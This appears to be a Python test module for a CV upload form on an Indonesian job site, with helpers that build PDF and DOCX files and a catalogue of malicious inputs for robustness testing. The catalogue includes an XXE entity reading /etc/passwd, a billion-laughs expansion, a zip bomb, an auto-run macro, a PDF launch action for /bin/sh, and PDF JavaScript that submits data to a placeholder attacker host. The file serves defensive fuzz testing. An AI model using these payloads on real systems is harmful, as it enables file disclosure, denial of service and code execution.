"""Uploads to the pages: a file sent as a browser does, the page of corrections as its form, and files of every kind."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Mapping, Sequence
from typing import Any

import docx
from fpdf import FPDF

from evaluation.fuzz.cvs import packed
from tests.api.web.conftest import Browser, token_of

CV = """Siti Contoh
Jl. Mawar 5, Sidoarjo
HP 0813-9876-1234
siti.contoh@contoh.invalid

Pengalaman Kerja
Juru Las
PT Maju Jaya Konstruksi, Maret 2019 - Juni 2022
- Mengelas pagar dengan SMAW
- Membaca gambar teknik
Helper Las
CV Sinar Logam, 2017 - 2018

Pendidikan
SMK Negeri 1 Sidoarjo, Jurusan Teknik Pengelasan, 2014 - 2017

Keterampilan
SMAW, Microsoft Excel, egrang zigzag

Bahasa
Bahasa Inggris (pasif)

Sertifikat
SIM C
Sertifikat BNSP Las 3G
"""

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_ACTION = re.compile(r'action="(/unggah\?[^"]+)"')
_INPUT = re.compile(
    r"<(?:input|textarea|select)\b[^>]*>(?:\n?[^<]*</textarea>|(?:<option[^>]*>[^<]*</option>)*</select>)?"
)


def send(browser: Browser, *files: bytes, name: str = "cv.txt", follow: bool = True) -> Any:
    """The answer to files sent by the form; the page of corrections where the file was read."""
    address = action(browser)
    sent = [("berkas", (name, data, "application/octet-stream")) for data in files]
    answer = browser.http.post(address, files=sent or {"lain": ("", b"")}, follow_redirects=False)
    if follow and answer.status_code == 303:
        return browser.get(answer.headers["location"])
    return answer


def action(browser: Browser) -> str:
    """Where the form sends a file."""
    found = _ACTION.search(browser.get("/unggah").text)
    assert found
    return html.unescape(found[1])


def form_on(page: str) -> dict[str, str]:
    """What the browser would send of the page of corrections, its buttons aside."""
    fields = dict[str, str]()
    for element in _INPUT.findall(page.split('id="periksa"')[1]):
        name = re.search(r'name="([^"]+)"', element)
        value = re.search(r' value="([^"]*)"', element)
        if name is None or ('type="checkbox"' in element and " checked" not in element):
            continue
        if element.startswith("<textarea"):
            fields[name[1]] = html.unescape(element.split(">", 1)[1].removesuffix("</textarea>")).removeprefix("\n")
        elif element.startswith("<select"):
            chosen = re.search(r'<option value="([^"]*)" selected', element)
            fields[name[1]] = html.unescape(chosen[1]) if chosen else ""
        else:
            fields[name[1]] = html.unescape(value[1]) if value else ""
    return fields


def corrected(browser: Browser, fields: Mapping[str, str], **more: Any) -> Any:
    """The answer to the form of corrections."""
    token = token_of(browser.get("/unggah").text)
    return browser.http.post("/unggah/lanjut", data={**fields, "_csrf": token}, follow_redirects=False, **more)


def pdf_of(*pages: Sequence[str]) -> bytes:
    """A PDF of pages of lines."""
    page = FPDF()
    for lines in pages:
        page.add_page()
        page.set_font("helvetica", size=11)
        for text in lines:
            page.multi_cell(0, 6, text, new_x="LMARGIN", new_y="NEXT")
    return bytes(page.output())


def docx_of(text: str) -> bytes:
    """A DOCX, a paragraph for each line."""
    document, out = docx.Document(), io.BytesIO()
    for line in text.splitlines():
        document.add_paragraph("".join(letter for letter in line if letter == "\t" or letter.isprintable()))
    document.save(out)
    return out.getvalue()


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    page = FPDF()
    page.add_page()
    page.set_font("helvetica", size=11)
    page.cell(0, 6, "Pengalaman Kerja")
    page.set_encryption(owner_password="a", user_password="b")
    return bytes(page.output())


def raw_pdf(catalogue: str = "", page: str = "BT /F1 12 Tf 50 700 Td (Juru Las) Tj ET", kids: int = 1) -> bytes:
    """A PDF by hand, with further entries of its catalogue."""
    body = [
        f"<</Type/Catalog/Pages 2 0 R{catalogue}>>",
        f"<</Type/Pages/Kids[{'3 0 R ' * kids}]/Count {kids}>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        f"<</Length {len(page)}>>stream\n{page}\nendstream",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    lines = "".join(f"{n} 0 obj{one}endobj\n" for n, one in enumerate(body, 1))
    return f"%PDF-1.4\n{lines}trailer<</Root 1 0 R>>\n%%EOF".encode()


def bomb() -> bytes:
    """A DOCX of some 100 kB that unpacks to 100 MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a/>")
        archive.writestr("word/media/a.bin", bytes(100 << 20))
    return out.getvalue()


def _entities(kinds: str) -> bytes:
    body = "<w:p><w:r><w:t>&a;Juru Las</w:t></w:r></w:p>"
    return packed(f"<!DOCTYPE d [{kinds}]><w:document {W}><w:body>{body}</w:body></w:document>".encode())


def _with_macros() -> bytes:
    whole = io.BytesIO(docx_of(CV))
    with zipfile.ZipFile(whole, "a") as archive:
        archive.writestr("word/vbaProject.bin", b'Sub AutoOpen()\nShell "calc"\nEnd Sub')
    return whole.getvalue()


def _many_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for at in range(3_000):
            archive.writestr(f"word/{at}" + "x" * 200, b"")
    return out.getvalue()


def bad_files() -> dict[str, bytes]:
    """Files made by hand that a careless reader would crash on, run, or unpack for ever."""
    laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    launch = "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
    return {
        "malformed xref": b"%PDF-1.4\nxref\n0 99999999\n" + b"9999999999 65535 n\n" * 400 + b"startxref\n9\n%%EOF",
        "xref of itself": b"%PDF-1.4\nxref\n0 1\ntrailer<</Prev 9/Size 1/Root 1 0 R>>\nstartxref\n9\n%%EOF",
        "pages of themselves": raw_pdf().replace(b"/Kids[3 0 R ]", b"/Kids[2 0 R ]"),
        "ten thousand pages": raw_pdf(kids=10_000),
        "script": raw_pdf("/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('http://jahat.invalid'))>>"),
        "launch": raw_pdf(launch),
        "attachment": raw_pdf("/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>"),
        "deep arrays": raw_pdf(page="[" * 200_000),
        "huge font": raw_pdf(page="BT /F1 1e38 Tf 1e38 1e38 Td (Juru Las) Tj ET"),
        "zip bomb": bomb(),
        "many parts with long names": _many_parts(),
        "entity of a file": _entities('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "entities of entities": _entities(laughs + '<!ENTITY a "&l9;">'),
        "deep XML": packed(f"<w:document {W}><w:body>{'<w:sdt>' * 9_000}".encode()),
        "macros": _with_macros(),
        "zip that is cut": docx_of(CV)[:900],
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000),
        "picture called PDF": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(2_000),
        "program": b"MZ" + bytes(range(256)) * 20,
        "one long line": b"las " * 400_000,
        "nothing but brackets": b"(" * 300_000,
        "half an emoji": "Pengalaman Kerja\nJuru Las 😀".encode("utf-16-le")[:-2],
        "nulls": b"Pengalaman\x00Kerja\x00" * 900,
    }
